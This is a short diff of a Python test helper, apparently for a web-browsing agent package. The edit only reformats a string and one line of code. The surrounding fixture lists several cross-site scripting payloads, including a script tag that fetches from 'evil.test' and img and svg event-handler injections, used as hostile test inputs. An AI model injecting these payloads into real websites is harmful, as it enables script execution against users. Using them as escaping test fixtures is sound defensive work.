@@ -14,7 +14,7 @@ from dynaweb.types import Action, EndReason, Judgement, Node, Observation, Sourc
 HOST = "http://shop.localhost"
 HOSTILE = (
     "</script><script>window.hacked=1;fetch('http://evil.test/a')</script>",
-    "<img src=x onerror=\"window.hacked=2\">",
+    '<img src=x onerror="window.hacked=2">',
     "</textarea></title></style><!-- <svg onload=window.hacked=3>",
     "'] + window.hacked=4 //\u2028\ud800 &lt;b&gt; &amp; \x00",
 )
@@ -26,9 +26,7 @@ def page(path: str, *body: tuple[str, str] | tuple[str, str, str | None], notice
     top = (("link", "Home"), ("link", "Cart"), ("link", "Orders"), ("textbox", "Search"), ("button", "»"))
     foot = (("link", "Imprint"), ("link", "Contact"))
     rows = [*top, *body, *foot]
-    nodes = tuple(
-        Node(at, row[0], row[1], row[2] if len(row) > 2 else None) for at, row in enumerate(rows, start=1)
-    )
+    nodes = tuple(Node(at, row[0], row[1], row[2] if len(row) > 2 else None) for at, row in enumerate(rows, start=1))
     return Observation(f"{HOST}{path}", nodes, notice=notice)
 
 
